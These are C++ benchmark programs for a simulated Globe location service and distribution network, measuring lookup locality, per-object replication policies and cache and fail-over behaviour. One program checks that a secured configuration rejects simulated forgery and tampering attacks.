// communication. In other words, the cost of a look up increases proportional to the
// distance between client and nearest representative."
//
// Workload: a 4-level world; one replica registered at a fixed host; lookups issued
// from clients at increasing domain distance. Expected shape: hops = 2 * separation
// levels, latency grows with each level, and the lookup's apex climbs exactly as
// high as the separation requires — never to the root unless the client is on
// another continent.

#include "bench/bench_util.h"
#include "src/gls/deploy.h"

using namespace globe;
using bench::Fmt;

int main() {
  bench::Title("E1 bench_gls_locality",
               "GLS lookup cost vs. client-replica distance (paper 3.5)");

  // 3 continents x 3 countries x 3 sites, 2 hosts per site.
  sim::Simulator simulator;
  sim::UniformWorld world = sim::BuildUniformWorld({3, 3, 3}, 2);
  sim::Network network(&simulator, &world.topology);
  sim::PlainTransport transport(&network);
  gls::GlsDeployment deployment(&transport, &world.topology, nullptr);

  // Register one replica at host 0.
  Rng rng(1);
  gls::ObjectId oid = gls::ObjectId::Generate(&rng);
  {
    auto client = deployment.MakeClient(world.hosts[0]);
    Status status = Unavailable("pending");
    client->Insert(oid,
                   gls::ContactAddress{{world.hosts[0], sim::kPortGos}, 1,
                                       gls::ReplicaRole::kMaster},
                   [&](Status s) { status = s; });
    simulator.Run();
    if (!status.ok()) {
      std::printf("insert failed: %s\n", status.ToString().c_str());
      return 1;
    }
  }

  struct Probe {
    const char* label;
    size_t host_index;
  };
  // Host indices per the uniform world layout: 2 hosts per site, 3 sites per country
  // (6 hosts), 3 countries per continent (18 hosts), 3 continents (54 hosts total).
  std::vector<Probe> probes = {
      {"same site", 1},       {"same country", 2},       {"same continent", 6},
      {"next continent", 18}, {"far continent", 36},
  };

  bench::Table table({"client at", "hops", "latency", "apex depth", "found depth"});
  for (const Probe& probe : probes) {
    auto client = deployment.MakeClient(world.hosts[probe.host_index]);
    gls::LookupResult result;
    Status status = Unavailable("pending");
    sim::SimTime started = simulator.Now();
    sim::SimTime finished = started;
    client->Lookup(oid, [&](Result<gls::LookupResult> r) {
      finished = simulator.Now();
      if (r.ok()) {
        result = *r;
        status = OkStatus();
      } else {
        status = r.status();
      }
    });
    simulator.Run();
    if (!status.ok()) {
      std::printf("lookup failed: %s\n", status.ToString().c_str());
      return 1;
    }
    table.Row({probe.label, Fmt("%u", result.hops), bench::Ms(finished - started),
               Fmt("%d", result.apex_depth), Fmt("%d", result.found_depth)});
  }

  bench::Note("");
  bench::Note("expected shape (paper): hops grow ~2 per level of separation; a nearby");
  bench::Note("replica is found without leaving the local subtree (apex stays deep);");
  bench::Note("only intercontinental lookups touch the root (apex depth 0).");
  return 0;
}
