// E1 — GLS lookup locality (paper §3.5, Figure 2).
//
// Claim: "if a distributed shared object has a representative near to the client,
// the Globe Location Service will find that representative using only 'local'
// communication. In other words, the cost of a look up increases proportional to the
// distance between client and nearest representative."
//
// Workload: a 4-level world; one replica registered at a fixed host; lookups issued
// from clients at increasing domain distance. Expected shape: hops = 2 * separation
// levels, latency grows with each level, and the lookup's apex climbs exactly as
// high as the separation requires — never to the root unless the client is on
// another continent.
//
// A second run repeats the probes with the per-subnode lookup cache enabled and
// warmed: the descent half of each lookup collapses into an apex cache hit, so the
// same addresses come back in roughly half the hops (and latency).

#include "bench/bench_util.h"
#include "src/gls/deploy.h"
#include "src/sim/backend.h"

using namespace globe;
using bench::Fmt;

namespace {

struct Probe {
  const char* label;
  size_t host_index;
};

struct ProbeResult {
  gls::LookupResult lookup;
  sim::SimTime latency = 0;
};

struct World {
  sim::Simulator simulator;
  sim::UniformWorld world;
  std::unique_ptr<sim::Network> network;
  std::unique_ptr<sim::PlainTransport> transport;
  std::unique_ptr<gls::GlsDeployment> deployment;
  gls::ObjectId oid;

  explicit World(bool cached) : world(sim::BuildUniformWorld({3, 3, 3}, 2)) {
    network = std::make_unique<sim::Network>(&simulator, &world.topology);
    transport = std::make_unique<sim::PlainTransport>(network.get());
    gls::GlsDeploymentOptions options;
    options.node_options.enable_cache = cached;
    options.node_options.cache_ttl = 3600 * sim::kSecond;
    deployment = std::make_unique<gls::GlsDeployment>(transport.get(), &world.topology,
                                                      nullptr, options);
    // Register one replica at host 0.
    Rng rng(1);
    oid = gls::ObjectId::Generate(&rng);
    auto client = deployment->MakeClient(world.hosts[0]);
    Status status = Unavailable("pending");
    client->Insert(oid,
                   gls::ContactAddress{{world.hosts[0], sim::kPortGos}, 1,
                                       gls::ReplicaRole::kMaster},
                   [&](Status s) { status = s; });
    simulator.Run();
    if (!status.ok()) {
      std::printf("insert failed: %s\n", status.ToString().c_str());
      std::exit(1);
    }
  }

  ProbeResult Lookup(size_t host_index, bool allow_cached) {
    auto client = deployment->MakeClient(world.hosts[host_index]);
    client->set_allow_cached(allow_cached);
    ProbeResult out;
    Status status = Unavailable("pending");
    sim::SimTime started = simulator.Now();
    client->Lookup(oid, [&](Result<gls::LookupResult> r) {
      out.latency = simulator.Now() - started;
      if (r.ok()) {
        out.lookup = *r;
        status = OkStatus();
      } else {
        status = r.status();
      }
    });
    simulator.Run();
    if (!status.ok()) {
      std::printf("lookup failed: %s\n", status.ToString().c_str());
      std::exit(1);
    }
    return out;
  }
};

}  // namespace

int main() {
  bench::Title("E1 bench_gls_locality",
               "GLS lookup cost vs. client-replica distance (paper 3.5)");

  // 3 continents x 3 countries x 3 sites, 2 hosts per site.
  // Host indices per the uniform world layout: 2 hosts per site, 3 sites per country
  // (6 hosts), 3 countries per continent (18 hosts), 3 continents (54 hosts total).
  std::vector<Probe> probes = {
      {"same site", 1},       {"same country", 2},       {"same continent", 6},
      {"next continent", 18}, {"far continent", 36},
  };

  World uncached(/*cached=*/false);
  bench::Table table({"client at", "hops", "latency", "apex depth", "found depth"});
  std::vector<ProbeResult> baseline;
  for (const Probe& probe : probes) {
    ProbeResult r = uncached.Lookup(probe.host_index, false);
    baseline.push_back(r);
    table.Row({probe.label, Fmt("%u", r.lookup.hops), bench::Ms(r.latency),
               Fmt("%d", r.lookup.apex_depth), Fmt("%d", r.lookup.found_depth)});
  }

  bench::Note("");
  bench::Note("expected shape (paper): hops grow ~2 per level of separation; a nearby");
  bench::Note("replica is found without leaving the local subtree (apex stays deep);");
  bench::Note("only intercontinental lookups touch the root (apex depth 0).");

  // Cached run: one warming lookup per probe populates the descent-path caches,
  // then the measured repeat must return the identical addresses in fewer hops.
  // Each probe gets a fresh world so earlier probes' cache entries don't shift
  // where later probes hit (only authoritative answers enter the caches).
  bench::Note("");
  bench::Note("cached run: per-subnode lookup cache on, one warming lookup per probe");
  bench::Table cached_table(
      {"client at", "hops", "latency", "hops saved", "latency saved", "from cache"});
  for (size_t i = 0; i < probes.size(); ++i) {
    World cached(/*cached=*/true);
    cached.Lookup(probes[i].host_index, true);  // warm
    ProbeResult r = cached.Lookup(probes[i].host_index, true);
    if (r.lookup.addresses != baseline[i].lookup.addresses) {
      std::printf("cached lookup returned different addresses for '%s'\n",
                  probes[i].label);
      return 1;
    }
    // Same-site probes are answered authoritatively by the leaf (0 hops stays 0);
    // every other probe must save its descent hops.
    bool saved_hops = baseline[i].lookup.hops == 0
                          ? r.lookup.hops == 0
                          : r.lookup.hops < baseline[i].lookup.hops;
    if (!saved_hops) {
      std::printf("cached lookup did not save hops for '%s'\n", probes[i].label);
      return 1;
    }
    cached_table.Row({probes[i].label, Fmt("%u", r.lookup.hops), bench::Ms(r.latency),
                      Fmt("%u", baseline[i].lookup.hops - r.lookup.hops),
                      bench::Ms(baseline[i].latency - r.latency),
                      r.lookup.from_cache ? "yes" : "no"});
  }

  bench::Note("");
  bench::Note("expected shape: identical addresses at every distance, with the descent");
  bench::Note("half of each lookup replaced by an apex cache hit — hops drop from 2n");
  bench::Note("to n per level of separation and simulated latency falls with them.");
  return 0;
}
