// E10 — end-to-end enforcement of the GDN security requirements (paper §6.1, §6.3).
//
// Claims under test, each mapped to an attack the secured GDN must refuse while the
// unsecured June-2000 configuration would accept it:
//   R1: "A Globe Object Server should accept only commands sent by a GDN moderator."
//   R2: "The GLS should accept only object registrations from Globe Object Servers
//        which are officially part of the GDN."
//   R3: "A GDN Naming Authority should accept only updates from moderator tools
//        operated by official GDN moderators."
//   R4: replicas must reject state-modifying invocations from unauthorized senders.
//   R5: TSIG protects the GDN Zone against forged DNS UPDATEs.
//   R6: in-flight tampering is detected by channel integrity protection.
//
// Output: one row per attack in both configurations, plus the verification overhead
// (simulated crypto CPU per legitimate operation).

#include "bench/bench_util.h"
#include "src/gdn/world.h"

using namespace globe;
using bench::Fmt;

namespace {

struct AttackOutcome {
  bool blocked = false;
  std::string detail;
};

// Runs the six attacks against a world; returns outcomes in order R1..R6.
// Execution order puts R4 before R2: an accepted forged GLS registration (R2 in the
// unsecured GDN) would otherwise redirect R4's bind to the attacker — realistic
// attack chaining, but each row should measure its own defence.
std::vector<AttackOutcome> RunAttacks(gdn::GdnWorld& world) {
  std::vector<AttackOutcome> outcomes(6);
  Rng rng(0x10);

  // A legitimate package to attack.
  auto oid = world.PublishPackage("/apps/victim", {{"f", ToBytes("genuine")}},
                                  dso::kProtoMasterSlave, 0);
  if (!oid.ok()) {
    std::printf("setup failed: %s\n", oid.status().ToString().c_str());
    std::exit(1);
  }
  sim::NodeId attacker = world.user_hosts()[1];

  // R1: unauthorized GOS command.
  {
    sim::Channel rpc(world.transport(), attacker);
    ByteWriter w;
    w.WriteU16(dso::kProtoClientServer);
    w.WriteU16(gdn::kPackageTypeId);
    Status status = Unavailable("no answer");
    rpc.Call(world.GosOf(0)->endpoint(), "gos.create_first_replica", w.Take(),
             [&](Result<sim::PayloadView> r) { status = r.ok() ? OkStatus() : r.status(); });
    world.Run();
    outcomes[0] = {!status.ok(), status.ToString()};
  }

  // R4: state-modifying invocation on a replica (before R2 can pollute the GLS).
  {
    dso::RuntimeSystem runtime(world.transport(), attacker,
                               world.gls().LeafDirectoryFor(attacker),
                               &world.repository());
    std::unique_ptr<dso::BoundObject> bound;
    runtime.Bind(*oid, {}, [&](Result<std::unique_ptr<dso::BoundObject>> r) {
      if (r.ok()) {
        bound = std::move(*r);
      }
    });
    world.Run();
    Status status = Unavailable("bind failed");
    if (bound != nullptr) {
      auto invocation = gdn::pkg::AddFile("f", ToBytes("trojan"));
      bound->Invoke(invocation.method, invocation.args, false,
                    [&](Result<Bytes> r) { status = r.ok() ? OkStatus() : r.status(); });
      world.Run();
    }
    outcomes[3] = {!status.ok(), status.ToString()};
  }

  // R2: forged GLS registration pointing the victim at the attacker.
  {
    gls::GlsClient gls_client(world.transport(), attacker,
                              world.gls().LeafDirectoryFor(attacker));
    Status status = Unavailable("no answer");
    gls_client.Insert(*oid,
                      gls::ContactAddress{{attacker, 4444}, dso::kProtoMasterSlave,
                                          gls::ReplicaRole::kMaster},
                      [&](Status s) { status = s; });
    world.Run();
    outcomes[1] = {!status.ok(), status.ToString()};
  }

  // R3: unauthorized GNS name registration.
  {
    dns::GnsClient gns(world.transport(), attacker, world.config().zone,
                       world.naming_authority()->endpoint(),
                       world.ResolverEndpointFor(attacker));
    Status status = Unavailable("no answer");
    gns.AddName("/apps/warez", gls::ObjectId::Generate(&rng).ToHex(),
                [&](Status s) { status = s; });
    world.Run();
    outcomes[2] = {!status.ok(), status.ToString()};
  }

  // R5: forged DNS UPDATE straight at the primary (attacker lacks the TSIG key).
  {
    dns::UpdateRequest update;
    update.zone = world.config().zone;
    update.additions.push_back(
        {"warez.gdn.cs.vu.nl", dns::RrType::kTxt, 3600, "badc0de"});
    update.key_name = "gdn-na";
    update.sequence = 999;
    dns::TsigSign(&update, ToBytes("guessed-key"));
    sim::Channel rpc(world.transport(), attacker);
    Status status = Unavailable("no answer");
    rpc.Call(world.dns_primary()->endpoint(), "dns.update", update.Serialize(),
             [&](Result<sim::PayloadView> r) { status = r.ok() ? OkStatus() : r.status(); });
    world.Run();
    outcomes[4] = {!status.ok(), status.ToString()};
  }

  // R6: in-flight tampering of host-to-host traffic (flip bytes on the wire while a
  // legitimate moderator update flows).
  {
    world.network().SetTamperProbability(0.35);
    Status status = Unavailable("pending");
    world.moderator()->AddFile("/apps/victim", "f", ToBytes("genuine v2"),
                               [&](Status s) { status = s; });
    world.Run();
    world.network().SetTamperProbability(0.0);
    // Detection means: either the op failed loudly, or it succeeded and the content
    // is intact. Undetected corruption is the only failure.
    auto content = world.DownloadFile(world.user_hosts()[2], "/apps/victim", "f");
    bool intact = content.ok() && (ToString(*content) == "genuine" ||
                                   ToString(*content) == "genuine v2");
    outcomes[5] = {intact, intact ? "no corrupted state accepted"
                                  : "CORRUPTED STATE SERVED"};
  }

  return outcomes;
}

}  // namespace

int main() {
  bench::Title("E10 bench_security_enforcement",
               "attack rejection: unsecured first version vs secured GDN (paper 6)");

  const char* names[] = {
      "R1 rogue GOS command",    "R2 forged GLS registration", "R3 rogue GNS name add",
      "R4 replica write forgery", "R5 forged DNS UPDATE",       "R6 wire tampering",
  };

  gdn::GdnWorldConfig insecure_config;
  insecure_config.fanouts = {2, 2};
  gdn::GdnWorld insecure(insecure_config);
  auto insecure_outcomes = RunAttacks(insecure);

  gdn::GdnWorldConfig secure_config;
  secure_config.fanouts = {2, 2};
  secure_config.secure = true;
  gdn::GdnWorld secure(secure_config);
  auto secure_outcomes = RunAttacks(secure);

  bench::Table table({"attack", "June-2000 GDN", "secured GDN"}, 26);
  int secured_blocked = 0;
  for (int i = 0; i < 6; ++i) {
    table.Row({names[i], insecure_outcomes[i].blocked ? "blocked" : "ACCEPTED",
               secure_outcomes[i].blocked ? "blocked" : "ACCEPTED"});
    if (secure_outcomes[i].blocked) {
      ++secured_blocked;
    }
  }
  bench::Note("");
  bench::Note(
      "secured GDN blocked %d/6 attacks; verification overhead: %.1f ms simulated",
              secured_blocked, secure.secure_transport()->stats().crypto_us / 1000.0);
  bench::Note("crypto CPU over the whole run, %llu MAC failures, %llu auth failures",
              (unsigned long long)secure.secure_transport()->stats().mac_failures,
              (unsigned long long)secure.secure_transport()->stats().auth_failures);
  bench::Note("");
  bench::Note(
      "expected shape (paper): the first (June 2000) version runs in a controlled");
  bench::Note("environment with no security measures - most forgeries would be accepted");
  bench::Note(
      "(TSIG protects the zone even there). The second version must block all six.");
  return 0;
}
