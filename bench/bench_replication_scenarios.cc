// E3 — per-object replication scenarios vs. one-size-fits-all (paper §3.1).
//
// Claim: "if we assign a replication scenario to each Web page that reflects that
// page's individual usage and update patterns, we get significant improvements ...
// less wide-area network traffic was generated and the response time for the
// end-user improved" [Pierre et al. 1999]. The GDN generalizes this: replication
// scenarios are chosen per package DSO.
//
// Workload: 40 packages with Zipf(1.0) popularity and bimodal update rates (20% of
// packages receive frequent updates, chosen independently of popularity). 400
// downloads from users across 6 countries, with updates interleaved. The same
// deterministic workload runs under four scenario policies:
//   central      — every package a single master in country 0
//   replicate-all— master + slave replica in every country (eager state push)
//   cache-all    — cache/invalidate protocol, HTTPD caches fill on demand
//   per-object   — popular+stable packages replicated everywhere; popular+volatile
//                  packages cached with invalidation; unpopular packages central
//
// Expected shape: each global policy loses somewhere — central on read latency and
// read WAN, replicate-all on update WAN, cache-all in between — while the per-object
// assignment matches the best policy in every column (the paper's Pierre-et-al
// finding).

#include <numeric>

#include "bench/bench_util.h"
#include "src/gdn/world.h"

using namespace globe;
using bench::Fmt;

namespace {

constexpr int kPackages = 40;
constexpr int kDownloads = 400;
constexpr double kZipfExponent = 1.0;
constexpr double kVolatileFraction = 0.20;
constexpr int kUpdateEveryNDownloads = 8;  // one update per 8 downloads

struct Workload {
  struct Op {
    bool is_update = false;
    int package = 0;
    size_t user_index = 0;  // for downloads
  };
  std::vector<Op> ops;
  std::vector<bool> is_volatile;   // per package
  std::vector<size_t> popularity;  // per package: times downloaded
  std::vector<uint32_t> sizes;     // per package payload size
};

Workload BuildWorkload(size_t num_users, uint64_t seed) {
  Workload workload;
  Rng rng(seed);
  ZipfSampler zipf(kPackages, kZipfExponent);

  workload.is_volatile.resize(kPackages);
  workload.sizes.resize(kPackages);
  for (int i = 0; i < kPackages; ++i) {
    workload.is_volatile[i] = rng.Bernoulli(kVolatileFraction);
    workload.sizes[i] = 20000 + static_cast<uint32_t>(rng.UniformInt(60000));
  }
  workload.popularity.assign(kPackages, 0);

  Rng update_rng(seed + 1);
  for (int i = 0; i < kDownloads; ++i) {
    Workload::Op op;
    op.package = static_cast<int>(zipf.Sample(&rng));
    op.user_index = static_cast<size_t>(rng.UniformInt(num_users));
    workload.popularity[op.package]++;
    workload.ops.push_back(op);

    if ((i + 1) % kUpdateEveryNDownloads == 0) {
      // Updates hit volatile packages: pick until one is volatile (bounded tries).
      Workload::Op update;
      update.is_update = true;
      update.package = static_cast<int>(update_rng.UniformInt(kPackages));
      for (int tries = 0; tries < 20 && !workload.is_volatile[update.package]; ++tries) {
        update.package = static_cast<int>(update_rng.UniformInt(kPackages));
      }
      workload.ops.push_back(update);
    }
  }
  return workload;
}

enum class Policy { kCentral, kReplicateAll, kCacheAll, kPerObject };

const char* PolicyName(Policy policy) {
  switch (policy) {
    case Policy::kCentral:
      return "central";
    case Policy::kReplicateAll:
      return "replicate-all";
    case Policy::kCacheAll:
      return "cache-all";
    case Policy::kPerObject:
      return "per-object";
  }
  return "?";
}

struct ScenarioResult {
  double mean_read_ms = 0;
  uint64_t read_wan_bytes = 0;
  uint64_t update_wan_bytes = 0;
  uint64_t total_wan_bytes = 0;
  int failures = 0;
};

ScenarioResult RunScenario(Policy policy, const Workload& workload) {
  gdn::GdnWorldConfig config;
  config.fanouts = {3, 2, 2};  // 6 countries
  config.user_hosts_per_site = 2;
  gdn::GdnWorld world(config);

  std::vector<size_t> all_other_countries;
  for (size_t c = 1; c < world.num_countries(); ++c) {
    all_other_countries.push_back(c);
  }

  // Publish every package under the policy.
  for (int p = 0; p < kPackages; ++p) {
    std::string name = "/apps/bench/pkg" + std::to_string(p);
    std::map<std::string, Bytes> files = {{"data", Bytes(workload.sizes[p], 0x33)}};

    gls::ProtocolId protocol = dso::kProtoMasterSlave;
    std::vector<size_t> replicas;
    switch (policy) {
      case Policy::kCentral:
        break;
      case Policy::kReplicateAll:
        replicas = all_other_countries;
        break;
      case Policy::kCacheAll:
        protocol = dso::kProtoCacheInval;
        break;
      case Policy::kPerObject: {
        // The adaptive assignment: popularity and volatility known from the trace
        // (the paper's study likewise assigned scenarios from observed patterns).
        bool popular = workload.popularity[p] * kPackages >= 2 * kDownloads / 3;
        if (popular && !workload.is_volatile[p]) {
          replicas = all_other_countries;  // replicate widely
        } else if (popular && workload.is_volatile[p]) {
          protocol = dso::kProtoCacheInval;  // cache + invalidate
        }
        // unpopular: stay central
        break;
      }
    }
    auto oid = world.PublishPackage(name, files, protocol, 0, replicas);
    if (!oid.ok()) {
      std::printf("publish %s failed: %s\n", name.c_str(), oid.status().ToString().c_str());
      std::exit(1);
    }
  }

  // Replay the workload; separate read and update traffic.
  world.network().mutable_stats()->Clear();
  ScenarioResult result;
  double total_read_ms = 0;
  int reads = 0;
  uint64_t wan_after_reads = 0;

  Rng content_rng(99);
  for (const auto& op : workload.ops) {
    std::string name = "/apps/bench/pkg" + std::to_string(op.package);
    if (op.is_update) {
      uint64_t before = world.network().stats().BytesAtOrAbove(2);
      Status status = Unavailable("pending");
      world.moderator()->AddFile(name, "data",
                                 Bytes(workload.sizes[op.package], 0x44),
                                 [&](Status s) { status = s; });
      world.Run();
      if (!status.ok()) {
        ++result.failures;
      }
      result.update_wan_bytes += world.network().stats().BytesAtOrAbove(2) - before;
    } else {
      sim::NodeId user = world.user_hosts()[op.user_index % world.user_hosts().size()];
      uint64_t before = world.network().stats().BytesAtOrAbove(2);
      auto content = world.DownloadFile(user, name, "data");
      if (!content.ok()) {
        ++result.failures;
        continue;
      }
      total_read_ms += sim::ToMillis(world.last_op_duration());
      ++reads;
      wan_after_reads += world.network().stats().BytesAtOrAbove(2) - before;
    }
  }
  result.mean_read_ms = reads > 0 ? total_read_ms / reads : 0;
  result.read_wan_bytes = wan_after_reads;
  result.total_wan_bytes = world.network().stats().BytesAtOrAbove(2);
  return result;
}

}  // namespace

int main() {
  bench::Title("E3 bench_replication_scenarios",
               "per-object replication vs. global policies (paper 3.1 / Pierre et al.)");
  bench::Note("%d packages, Zipf(%.1f) popularity, %.0f%% volatile, %d downloads, "
              "1 update per %d downloads, 6 countries",
              kPackages, kZipfExponent, kVolatileFraction * 100, kDownloads,
              kUpdateEveryNDownloads);

  // Workload is built once so every policy replays the identical op sequence.
  // User count equals the world the scenarios construct (3x2x2 sites x 2 hosts).
  Workload workload = BuildWorkload(/*num_users=*/24, /*seed=*/0xe3);

  bench::Table table({"policy", "mean read", "read WAN", "update WAN", "total WAN",
                      "failures"});
  for (Policy policy : {Policy::kCentral, Policy::kReplicateAll, Policy::kCacheAll,
                        Policy::kPerObject}) {
    ScenarioResult r = RunScenario(policy, workload);
    table.Row({PolicyName(policy), Fmt("%.1f ms", r.mean_read_ms),
               FormatBytes(r.read_wan_bytes), FormatBytes(r.update_wan_bytes),
               FormatBytes(r.total_wan_bytes), Fmt("%d", r.failures)});
  }

  bench::Note("");
  bench::Note("expected shape (paper): 'central' pays on read latency and read WAN;");
  bench::Note("'replicate-all' pays update WAN for replicas nobody reads;");
  bench::Note("'per-object' assignment approaches the best column of every global");
  bench::Note("policy simultaneously - less WAN traffic AND better response time.");
  return 0;
}
