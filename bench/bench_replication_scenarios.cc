// E3 — per-object replication scenarios vs. one-size-fits-all (paper §3.1).
//
// Claim: "if we assign a replication scenario to each Web page that reflects that
// page's individual usage and update patterns, we get significant improvements ...
// less wide-area network traffic was generated and the response time for the
// end-user improved" [Pierre et al. 1999]. The GDN generalizes this: replication
// scenarios are chosen per package DSO.
//
// Workload: 40 packages with Zipf(1.0) popularity and bimodal update rates (20% of
// packages receive frequent updates, chosen independently of popularity). 400
// downloads from users across 6 countries, with updates interleaved. The same
// deterministic workload runs under four scenario policies:
//   central      — every package a single master in country 0
//   replicate-all— master + slave replica in every country (eager state push)
//   cache-all    — cache/invalidate protocol, HTTPD caches fill on demand
//   per-object   — popular+stable packages replicated everywhere; popular+volatile
//                  packages cached with invalidation; unpopular packages central
//
// Expected shape: each global policy loses somewhere — central on read latency and
// read WAN, replicate-all on update WAN, cache-all in between — while the per-object
// assignment matches the best policy in every column (the paper's Pierre-et-al
// finding).

// A second table measures GLS-driven master fail-over (dso::ReplicaGroup): a
// master/slave package loses its master to a crash, the slave detects the
// missed lease renewals and races gls.claim_master; the table reports the
// time-to-new-master and the acked-write floor (writes lost must be 0) across
// lease-timing configurations.
//
// A third table exercises the *online* controller (src/ctl) on a viral
// package: one object starts central (client/server, all reads cross the WAN
// to country 0), then a flash crowd arrives from every country. Three
// strategies replay the identical trace:
//   static-central — the object never moves (what you get with no controller)
//   static-oracle  — replicated at every country from t=0 (knows the future)
//   adaptive       — ctl::ReplicationController watches the access telemetry
//                    and migrates the live object mid-trace
// The controller should land within a modest factor of the oracle on hot-phase
// read latency and total WAN bytes while acked writes survive every migration
// (writes lost must stay 0).

#include <numeric>

#include "bench/bench_util.h"
#include "src/gdn/world.h"
#include "src/gls/deploy.h"
#include "src/gos/object_server.h"
#include "src/sim/backend.h"

using namespace globe;
using bench::Fmt;

namespace {

constexpr int kPackages = 40;
constexpr int kDownloads = 400;
constexpr double kZipfExponent = 1.0;
constexpr double kVolatileFraction = 0.20;
constexpr int kUpdateEveryNDownloads = 8;  // one update per 8 downloads

struct Workload {
  struct Op {
    bool is_update = false;
    int package = 0;
    size_t user_index = 0;  // for downloads
  };
  std::vector<Op> ops;
  std::vector<bool> is_volatile;   // per package
  std::vector<size_t> popularity;  // per package: times downloaded
  std::vector<uint32_t> sizes;     // per package payload size
};

Workload BuildWorkload(size_t num_users, uint64_t seed) {
  Workload workload;
  Rng rng(seed);
  ZipfSampler zipf(kPackages, kZipfExponent);

  workload.is_volatile.resize(kPackages);
  workload.sizes.resize(kPackages);
  for (int i = 0; i < kPackages; ++i) {
    workload.is_volatile[i] = rng.Bernoulli(kVolatileFraction);
    workload.sizes[i] = 20000 + static_cast<uint32_t>(rng.UniformInt(60000));
  }
  workload.popularity.assign(kPackages, 0);

  Rng update_rng(seed + 1);
  for (int i = 0; i < kDownloads; ++i) {
    Workload::Op op;
    op.package = static_cast<int>(zipf.Sample(&rng));
    op.user_index = static_cast<size_t>(rng.UniformInt(num_users));
    workload.popularity[op.package]++;
    workload.ops.push_back(op);

    if ((i + 1) % kUpdateEveryNDownloads == 0) {
      // Updates hit volatile packages: pick until one is volatile (bounded tries).
      Workload::Op update;
      update.is_update = true;
      update.package = static_cast<int>(update_rng.UniformInt(kPackages));
      for (int tries = 0; tries < 20 && !workload.is_volatile[update.package]; ++tries) {
        update.package = static_cast<int>(update_rng.UniformInt(kPackages));
      }
      workload.ops.push_back(update);
    }
  }
  return workload;
}

enum class Policy { kCentral, kReplicateAll, kCacheAll, kPerObject };

const char* PolicyName(Policy policy) {
  switch (policy) {
    case Policy::kCentral:
      return "central";
    case Policy::kReplicateAll:
      return "replicate-all";
    case Policy::kCacheAll:
      return "cache-all";
    case Policy::kPerObject:
      return "per-object";
  }
  return "?";
}

struct ScenarioResult {
  double mean_read_ms = 0;
  uint64_t read_wan_bytes = 0;
  uint64_t update_wan_bytes = 0;
  uint64_t total_wan_bytes = 0;
  int failures = 0;
};

ScenarioResult RunScenario(Policy policy, const Workload& workload) {
  gdn::GdnWorldConfig config;
  config.fanouts = {3, 2, 2};  // 6 countries
  config.user_hosts_per_site = 2;
  gdn::GdnWorld world(config);

  std::vector<size_t> all_other_countries;
  for (size_t c = 1; c < world.num_countries(); ++c) {
    all_other_countries.push_back(c);
  }

  // Publish every package under the policy.
  for (int p = 0; p < kPackages; ++p) {
    std::string name = "/apps/bench/pkg" + std::to_string(p);
    std::map<std::string, Bytes> files = {{"data", Bytes(workload.sizes[p], 0x33)}};

    gls::ProtocolId protocol = dso::kProtoMasterSlave;
    std::vector<size_t> replicas;
    switch (policy) {
      case Policy::kCentral:
        break;
      case Policy::kReplicateAll:
        replicas = all_other_countries;
        break;
      case Policy::kCacheAll:
        protocol = dso::kProtoCacheInval;
        break;
      case Policy::kPerObject: {
        // The adaptive assignment: popularity and volatility known from the trace
        // (the paper's study likewise assigned scenarios from observed patterns).
        bool popular = workload.popularity[p] * kPackages >= 2 * kDownloads / 3;
        if (popular && !workload.is_volatile[p]) {
          replicas = all_other_countries;  // replicate widely
        } else if (popular && workload.is_volatile[p]) {
          protocol = dso::kProtoCacheInval;  // cache + invalidate
        }
        // unpopular: stay central
        break;
      }
    }
    auto oid = world.PublishPackage(name, files, protocol, 0, replicas);
    if (!oid.ok()) {
      std::printf("publish %s failed: %s\n", name.c_str(),
                  oid.status().ToString().c_str());
      std::exit(1);
    }
  }

  // Replay the workload; separate read and update traffic.
  world.network().mutable_stats()->Clear();
  ScenarioResult result;
  double total_read_ms = 0;
  int reads = 0;
  uint64_t wan_after_reads = 0;

  Rng content_rng(99);
  for (const auto& op : workload.ops) {
    std::string name = "/apps/bench/pkg" + std::to_string(op.package);
    if (op.is_update) {
      uint64_t before = world.network().stats().BytesAtOrAbove(2);
      Status status = Unavailable("pending");
      world.moderator()->AddFile(name, "data",
                                 Bytes(workload.sizes[op.package], 0x44),
                                 [&](Status s) { status = s; });
      world.Run();
      if (!status.ok()) {
        ++result.failures;
      }
      result.update_wan_bytes += world.network().stats().BytesAtOrAbove(2) - before;
    } else {
      sim::NodeId user = world.user_hosts()[op.user_index % world.user_hosts().size()];
      uint64_t before = world.network().stats().BytesAtOrAbove(2);
      auto content = world.DownloadFile(user, name, "data");
      if (!content.ok()) {
        ++result.failures;
        continue;
      }
      total_read_ms += sim::ToMillis(world.last_op_duration());
      ++reads;
      wan_after_reads += world.network().stats().BytesAtOrAbove(2) - before;
    }
  }
  result.mean_read_ms = reads > 0 ? total_read_ms / reads : 0;
  result.read_wan_bytes = wan_after_reads;
  result.total_wan_bytes = world.network().stats().BytesAtOrAbove(2);
  return result;
}

// ------------------------------------------------------------- viral object

enum class ViralMode { kStaticCentral, kStaticOracle, kAdaptive };

const char* ViralModeName(ViralMode mode) {
  switch (mode) {
    case ViralMode::kStaticCentral:
      return "static-central";
    case ViralMode::kStaticOracle:
      return "static-oracle";
    case ViralMode::kAdaptive:
      return "adaptive";
  }
  return "?";
}

struct ViralResult {
  double hot_read_ms = 0;
  uint64_t hot_read_wan = 0;
  uint64_t total_wan = 0;
  uint64_t migrations = 0;
  size_t acked_writes = 0;
  size_t writes_lost = 0;
};

constexpr int kViralWarmReads = 30;
constexpr int kViralHotReads = 240;
constexpr int kViralWriteEvery = 20;     // one write per N hot reads
constexpr int kViralEvaluateEvery = 12;  // controller ticks per N hot reads

ViralResult RunViral(ViralMode mode) {
  gdn::GdnWorldConfig config;
  config.fanouts = {3, 2, 2};  // 6 countries
  config.user_hosts_per_site = 2;
  gdn::GdnWorld world(config);

  std::vector<size_t> all_other_countries;
  for (size_t c = 1; c < world.num_countries(); ++c) {
    all_other_countries.push_back(c);
  }
  std::vector<std::vector<sim::NodeId>> users_by_country(world.num_countries());
  for (sim::NodeId user : world.user_hosts()) {
    int country = world.CountryOf(user);
    if (country >= 0) {
      users_by_country[static_cast<size_t>(country)].push_back(user);
    }
  }

  const std::string name = "/apps/bench/viral";
  gls::ProtocolId protocol = dso::kProtoClientServer;
  std::vector<size_t> replicas;
  if (mode == ViralMode::kStaticOracle) {
    // The oracle knows the flash crowd is coming: cache/invalidate caches at
    // every country from the start (what the controller converges to for a
    // read-heavy object with occasional updates).
    protocol = dso::kProtoCacheInval;
    replicas = all_other_countries;
  }
  auto oid = world.PublishPackage(name, {{"data", Bytes(40000, 0x55)}}, protocol,
                                  /*master_country=*/0, replicas);
  if (!oid.ok()) {
    std::printf("publish %s failed: %s\n", name.c_str(),
                oid.status().ToString().c_str());
